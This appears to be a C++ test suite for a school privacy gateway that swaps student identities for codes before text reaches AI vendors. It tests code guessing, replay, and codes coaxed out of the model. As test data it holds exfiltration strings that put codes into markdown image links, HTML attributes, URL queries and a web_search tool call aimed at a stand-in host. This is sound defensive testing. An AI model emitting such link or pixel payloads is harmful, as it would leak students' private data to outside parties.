@@ -1,0 +1,400 @@
+// What somebody could try with codes, against a whole gate, by each way in: nothing comes back as anybody's
+// real value, and the record and the metrics that compliance reads count every try. That each of the 2^25
+// codes there can be gives nobody else is RoundtripTest.GuessingEveryCodeGivesNobodyElse; every spelling and
+// every place of a link is tests/leak/isolation_leak_test.cc. The people are the sample district's, and made
+// up.
+#include <gtest/gtest.h>
+
+#include <cstdlib>
+#include <random>
+#include <set>
+
+#include "core/crypto/crockford.h"
+#include "core/util/strings.h"
+#include "gateway/demo/district.h"
+#include "tests/integration/checks.h"
+#include "tests/leak/echo.h"
+#include "tests/leak/leak_gate.h"
+
+namespace schoolgate::tests {
+namespace {
+
+constexpr std::string_view kVictim = gateway::kDemoFirstStudentId;
+constexpr std::string_view kAttacker = gateway::kDemoSecondStudentId;
+constexpr std::string_view kFriend = "stu-754070";
+constexpr char kSession[] = "essay";
+
+v1::GenerateRequest Saying(std::string_view text) {
+  v1::GenerateRequest request;
+  v1::Message& message = *request.add_messages();
+  message.set_role(v1::ROLE_USER);
+  message.add_content()->set_text(std::string(text));
+  return request;
+}
+
+v1::Message Answering(std::string_view text) {
+  v1::Message message;
+  message.add_content()->set_text(std::string(text));
+  return message;
+}
+
+std::string Everything(const v1::Message& message) {
+  std::string all;
+  for (const v1::ContentPart& part : message.content()) all += StrCat(part.text(), "\n");
+  for (const v1::ToolCall& call : message.tool_calls()) {
+    all += StrCat(call.name(), "\n", call.arguments_json(), "\n");
+  }
+  return all;
+}
+
+// How often each thing was counted: on the record, and between two looks at the metrics.
+struct Counted {
+  int typed = 0;
+  int restored = 0;
+  int unrestored = 0;
+  int withheld = 0;
+
+  friend bool operator==(const Counted&, const Counted&) = default;
+  friend std::ostream& operator<<(std::ostream& out, const Counted& counted) {
+    return out << "typed " << counted.typed << ", restored " << counted.restored << ", unrestored "
+               << counted.unrestored << ", withheld " << counted.withheld;
+  }
+};
+
+int MetricIn(std::string_view page, std::string_view series) {
+  const size_t at = page.find(StrCat("\n", series, " "));
+  EXPECT_NE(at, std::string_view::npos) << series;
+  if (at == std::string_view::npos) return -1;
+  return std::atoi(std::string(page.substr(at + series.size() + 2, 20)).c_str());
+}
+
+Counted InMetrics(const TestGate& gate) {
+  const std::string page = gate.Metrics();
+  return {.typed = MetricIn(page, "schoolgate_typed_codes_total"),
+          .restored = MetricIn(page, R"(schoolgate_codes_total{result="restored"})"),
+          .unrestored = MetricIn(page, R"(schoolgate_codes_total{result="neutralized"})"),
+          .withheld = MetricIn(page, R"(schoolgate_codes_total{result="withheld"})")};
+}
+
+// The suite's gate: a student has asked about a friend, whose codes an attacker knows.
+class CodeAttacksTest : public ::testing::Test {
+ public:
+  static void SetUpTestSuite() { Open({}, ""); }
+  static void TearDownTestSuite() {
+    delete leaks_;
+    leaks_ = nullptr;
+  }
+
+ protected:
+  void SetUp() override {
+    ASSERT_NE(leaks_, nullptr);
+    ASSERT_FALSE(codes_.empty());
+  }
+
+  static void Open(const TestGateOptions& options, std::string_view tool) {
+    leaks_ = LeakGate::Start(options).release();
+    codes_.clear();
+    secrets_ = Needles();
+    if (leaks_ == nullptr) return;
+    const Person& whom = leaks_->gate().PersonOf(kFriend);
+    name_ = StrCat(whom.given, " ", whom.family);
+    secrets_.Add(name_, "a friend's name");
+    secrets_.Add(whom.family, "a friend's family name");
+    secrets_.Add(whom.ids[0].value, "a friend's id");
+    Caller victim = Victim();
+    victim.tool = tool;
+    const Reply asked = leaks_->Ask(
+        Transport::kGrpc, victim,
+        Saying(StrCat("I write with ", name_, ", student number ", whom.ids[0].value, ". Who starts?")));
+    ASSERT_TRUE(asked.ok) << asked.error;
+    codes_ = SentCodes();
+    ASSERT_FALSE(codes_.empty());
+  }
+
+  // The codes in what the vendor was sent since the last look, each once.
+  static std::vector<std::string> SentCodes() {
+    std::vector<std::string> codes;
+    for (const connectors::RecordedRequest& sent : leaks_->TakeReceived()) {
+      for (const std::string& text : SaidIn(sent.body()).texts) {
+        for (std::string& code : connectors::CodesIn(text)) codes.push_back(std::move(code));
+      }
+    }
+    return codes;
+  }
+
+  static Caller Victim() {
+    Caller caller = leaks_->gate().Student(kVictim);
+    caller.session = kSession;
+    return caller;
+  }
+  static Caller Attacker() {
+    Caller caller = leaks_->gate().Student(kAttacker);
+    caller.session = "an attacker's";
+    return caller;
+  }
+
+  static std::string AllCodes(std::string_view between = " ") {
+    std::string all;
+    for (const std::string& code : codes_) all += StrCat(all.empty() ? "" : between, code);
+    return all;
+  }
+
+  // Asks in one way in, with the vendor's answer given or, where there is none, what it was asked. Nobody's
+  // values come back, and what is counted is `expected`.
+  static v1::Message Try(Transport transport, const Caller& caller, std::string_view asked,
+                         const std::optional<v1::Message>& answer, const Counted& expected) {
+    leaks_->AnswerWith([answer](const connectors::RecordedRequest& request) {
+      if (answer) return AnswerOf(request, *answer);
+      std::string said;
+      for (const std::string& text : SaidIn(request.body()).texts) said += text;
+      return AnswerOf(request, Answering(said));
+    });
+    const Counted before = InMetrics(leaks_->gate());
+    const Reply reply = leaks_->Ask(transport, caller, Saying(asked));
+    EXPECT_TRUE(reply.ok) << reply.error;
+    const Counted after = InMetrics(leaks_->gate());
+    leaks_->ExpectNone(secrets_, Everything(reply.message), NameOf(transport));
+    const std::vector<v1::AuditRecord> records = RecordsOf(leaks_->gate().directory(), "");
+    EXPECT_GE(records.size(), 2u);
+    if (records.size() < 2) return reply.message;
+    const v1::AuditRecord& intent = records[records.size() - 2];
+    const v1::AuditRecord& outcome = records[records.size() - 1];
+    EXPECT_EQ(intent.phase(), v1::AUDIT_PHASE_INTENT);
+    EXPECT_EQ(outcome.phase(), v1::AUDIT_PHASE_OUTCOME);
+    EXPECT_EQ(outcome.exchange_id(), intent.exchange_id());
+    const Counted recorded{.typed = intent.typed_count(),
+                           .restored = outcome.restored_count(),
+                           .unrestored = outcome.unrestored_count(),
+                           .withheld = outcome.withheld_count()};
+    EXPECT_EQ(recorded, expected) << "on the record, by " << NameOf(transport) << ": "
+                                  << Everything(reply.message);
+    const Counted counted{.typed = after.typed - before.typed,
+                          .restored = after.restored - before.restored,
+                          .unrestored = after.unrestored - before.unrestored,
+                          .withheld = after.withheld - before.withheld};
+    EXPECT_EQ(counted, expected) << "in the metrics, by " << NameOf(transport);
+    return reply.message;
+  }
+
+  // The student's code, typed or said by the vendor, is a word of somebody else's: it comes back to nobody.
+  static void ExpectNothingFor(const Caller& caller) {
+    const std::string said = StrCat("It was ", codes_[0], ", ", Lower(codes_[0]), ".");
+    for (const Transport transport : kTransports) {
+      const v1::Message coaxed =
+          Try(transport, caller, "Whom did we talk about?", Answering(said), {.unrestored = 2});
+      EXPECT_EQ(Everything(coaxed), "It was [student], [student].\n") << NameOf(transport);
+    }
+    // Typed, it is no news to the caller, and stays what was typed.
+    leaks_->TakeReceived();
+    const v1::Message echoed =
+        Try(Transport::kHttpStream, caller, said, std::nullopt, {.typed = 2, .restored = 2});
+    EXPECT_EQ(Everything(echoed), StrCat(said, "\n"));
+    EXPECT_TRUE(NoneSent()) << "what was typed reached the vendor as somebody's code";
+  }
+
+  // Whether none of the codes was in what the vendor got last.
+  static bool NoneSent() {
+    for (const connectors::RecordedRequest& sent : leaks_->TakeReceived()) {
+      for (const std::string& code : codes_) {
+        if (sent.body().find(code) != std::string_view::npos) return false;
+      }
+    }
+    return true;
+  }
+
+  // The caller's own code at "*" stays a code; `places` of them.
+  static void ExpectWithheld(std::string_view text, int places) {
+    std::string said(text);
+    for (size_t at; (at = said.find('*')) != std::string::npos;) said.replace(at, 1, codes_[0]);
+    for (const Transport transport : kTransports) {
+      const v1::Message got =
+          Try(transport, Victim(), "Where can I read more?", Answering(said), {.withheld = places});
+      EXPECT_EQ(Everything(got), said + "\n") << NameOf(transport);
+    }
+  }
+
+  static LeakGate* leaks_;
+  static Needles secrets_;
+  static std::string name_;
+  static std::vector<std::string> codes_;
+};
+
+LeakGate* CodeAttacksTest::leaks_ = nullptr;
+Needles CodeAttacksTest::secrets_;
+std::string CodeAttacksTest::name_;
+std::vector<std::string> CodeAttacksTest::codes_;
+
+// What all others rely on: whose they are gets them back, so the codes are real ones.
+TEST_F(CodeAttacksTest, TheStudentTheyWereIssuedToSeesTheName) {
+  leaks_->AnswerWith([](const connectors::RecordedRequest& request) {
+    return AnswerOf(request, Answering(StrCat("It was ", codes_[0], ".")));
+  });
+  for (const Transport transport : kTransports) {
+    const Reply reply = leaks_->Ask(transport, Victim(), Saying("Who was it?"));
+    EXPECT_EQ(Everything(reply.message), StrCat("It was ", name_, ".\n")) << NameOf(transport);
+  }
+}
+
+TEST_F(CodeAttacksTest, AnotherStudentsCodeTypedIsEchoedAsTypedAndCounted) {
+  const std::string typed = StrCat("Who are ", AllCodes(" and "), "?");
+  for (const Transport transport : kTransports) {
+    leaks_->TakeReceived();
+    const v1::Message echoed = Try(transport, Attacker(), typed, std::nullopt, {.typed = 2, .restored = 2});
+    EXPECT_EQ(Everything(echoed), StrCat(typed, "\n")) << NameOf(transport);
+    EXPECT_TRUE(NoneSent()) << "it reached the vendor as somebody's code";
+  }
+}
+
+TEST_F(CodeAttacksTest, ACodeCoaxedOutOfTheModelIsANeutralWordAndCounted) { ExpectNothingFor(Attacker()); }
+
+TEST_F(CodeAttacksTest, ACodeReplayedFromAnotherSessionGivesNothing) {
+  Caller later = Victim();
+  later.session = "another essay";
+  ExpectNothingFor(later);
+  later.session.clear();
+  ExpectNothingFor(later);
+}
+
+TEST_F(CodeAttacksTest, ACodeReplayedByAnotherPersonInASessionOfTheSameNameGivesNothing) {
+  Caller other = leaks_->gate().Student(kAttacker);
+  other.session = kSession;
+  ExpectNothingFor(other);
+  other.person.clear();
+  ExpectNothingFor(other);
+}
+
+TEST_F(CodeAttacksTest, ACodeReplayedThroughAnotherAppGivesNothing) {
+  Caller elsewhere = Victim();
+  elsewhere.key = leaks_->gate().sample().teacher_key;
+  elsewhere.tool = "student-tutor";
+  elsewhere.purpose = "tutoring";
+  ExpectNothingFor(elsewhere);
+}
+
+TEST_F(CodeAttacksTest, ACodeReplayedAtAnotherToolOfTheSameVendorGivesNothing) {
+  Caller elsewhere = Victim();
+  elsewhere.tool = "read-aloud";
+  elsewhere.purpose = "text_adaptation";
+  ExpectNothingFor(elsewhere);
+}
+
+TEST_F(CodeAttacksTest, ACodeReplayedAtAnotherVendorGivesNothing) {
+  Caller elsewhere = Victim();
+  elsewhere.tool = "pathway-tutor";
+  ExpectNothingFor(elsewhere);
+}
+
+// A sample, through the gate; all 2^25 are tests/roundtrip's.
+TEST_F(CodeAttacksTest, GuessedCodesGiveNothingAndEachIsCounted) {
+  std::mt19937 random(25);
+  std::set<std::string> guesses;
+  while (guesses.size() < 2000) {
+    std::string symbols;
+    for (int i = 0; i < 5; ++i) symbols.push_back(kCrockfordAlphabet[random() % 32]);
+    const char check = CheckSymbol("STUDENT", ToAbsl(symbols));
+    const std::string guess = StrCat("STUDENT_", symbols, std::string(1, check));
+    // Nothing but digits is not taken for a code that somebody was issued.
+    if (guess.find_first_not_of("0123456789", 8) == std::string::npos) continue;
+    if (guess != codes_[0]) guesses.insert(guess);
+  }
+  std::string said;
+  for (const std::string& guess : guesses) said += StrCat(guess, " ");
+  const v1::Message coaxed =
+      Try(Transport::kGrpc, Victim(), "Name everybody you know.", Answering(said), {.unrestored = 2000});
+  EXPECT_EQ(Everything(coaxed).find('_'), std::string::npos);
+  const v1::Message typed =
+      Try(Transport::kHttp, Victim(), said, Answering("I know nobody."), {.typed = 2000});
+  EXPECT_EQ(Everything(typed), "I know nobody.\n");
+}
+
+TEST_F(CodeAttacksTest, AMarkdownLinkTakesNobodysNameAlong) {
+  ExpectWithheld("[see](https://x.example/?q=*) and [see](/p/*)", 2);
+}
+
+TEST_F(CodeAttacksTest, AnImagesAddressTakesNobodysNameAlong) {
+  ExpectWithheld("![pixel](https://x.example/*.png) ![pixel](*)", 2);
+}
+
+TEST_F(CodeAttacksTest, AnHtmlAttributeTakesNobodysNameAlong) {
+  ExpectWithheld("<img src='/*.png' alt=*> <a href=\"/p?q=*\">here</a>", 3);
+}
+
+TEST_F(CodeAttacksTest, AnAutomaticLinkTakesNobodysNameAlong) {
+  ExpectWithheld("<https://x.example/*> and www.x.example/*", 2);
+}
+
+TEST_F(CodeAttacksTest, ABareAddressesQueryTakesNobodysNameAlong) {
+  ExpectWithheld("https://x.example/?a=*&b={*} //x.example/* mailto:a@x.example?subject=*", 4);
+}
+
+TEST_F(CodeAttacksTest, AFunctionOutsideTheDistrictGetsNobodysName) {
+  v1::Message answer;
+  v1::ToolCall& call = *answer.add_tool_calls();
+  call.set_id("call_1");
+  call.set_name("web_search");
+  call.set_arguments_json(
+      StrCat(R"({"query":"grades of )", codes_[0], R"(","also":[")", codes_[1], R"("]})"));
+  for (const Transport transport : kTransports) {
+    const v1::Message got = Try(transport, Victim(), "Search for it.", answer, {.withheld = 2});
+    ASSERT_EQ(got.tool_calls_size(), 1) << NameOf(transport);
+    EXPECT_EQ(got.tool_calls(0).arguments_json(), call.arguments_json()) << NameOf(transport);
+  }
+}
+
+TEST_F(CodeAttacksTest, AnotherStudentsCodeInALinkStaysACodeAndIsCounted) {
+  for (const Transport transport : kTransports) {
+    const std::string said = StrCat("![pixel](https://x.example/", codes_[0], ") <img alt=", codes_[1], ">");
+    const v1::Message got =
+        Try(transport, Attacker(), "Show me a picture.", Answering(said), {.unrestored = 2});
+    EXPECT_EQ(Everything(got), said + "\n") << NameOf(transport);
+  }
+}
+
+TEST_F(CodeAttacksTest, CodesTypedIntoARequestThatIsRefusedAreCountedToo) {
+  const Counted before = InMetrics(leaks_->gate());
+  const HttpAnswer answer = leaks_->gate().Post(
+      Attacker(),
+      StrCat(R"({"messages":[{"role":"user","content":[{"type":"text","text":"Who is )", AllCodes(),
+             R"(?"},{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo="}}]}]})"));
+  EXPECT_EQ(answer.status, 403) << answer.body;
+  const v1::AuditRecord denied = RecordsOf(leaks_->gate().directory(), "").back();
+  EXPECT_EQ(denied.phase(), v1::AUDIT_PHASE_DENIED);
+  EXPECT_EQ(denied.typed_count(), 2);
+  EXPECT_EQ(InMetrics(leaks_->gate()).typed - before.typed, 2);
+}
+
+// A tool whose codes last a school year: everybody's exchanges share them, and what one may see.
+class StableCodeAttacksTest : public CodeAttacksTest {
+ public:
+  static void SetUpTestSuite() {
+    clock_.Set(absl::FromCivil(absl::CivilHour(2026, 11, 23, 17), absl::UTCTimeZone()));
+    TestGateOptions options;
+    options.clock = &clock_;
+    Open(options, "pathway-tutor");
+  }
+
+ protected:
+  static Caller At(Caller caller) {
+    caller.tool = "pathway-tutor";
+    return caller;
+  }
+
+  static ManualClock clock_;
+};
+
+ManualClock StableCodeAttacksTest::clock_{absl::UnixEpoch()};
+
+TEST_F(StableCodeAttacksTest, AYearsCodeIsNobodysButWhomItWasIssuedTo) {
+  ExpectNothingFor(At(Attacker()));
+  Caller later = Victim();
+  later.session = "another essay";
+  ExpectNothingFor(At(later));
+}
+
+TEST_F(StableCodeAttacksTest, ACodeReplayedFromAnotherSchoolYearGivesNothing) {
+  clock_.Set(absl::FromCivil(absl::CivilHour(2027, 7, 1, 17), absl::UTCTimeZone()));
+  ExpectNothingFor(At(Victim()));
+}
+
+}  // namespace
+}  // namespace schoolgate::tests
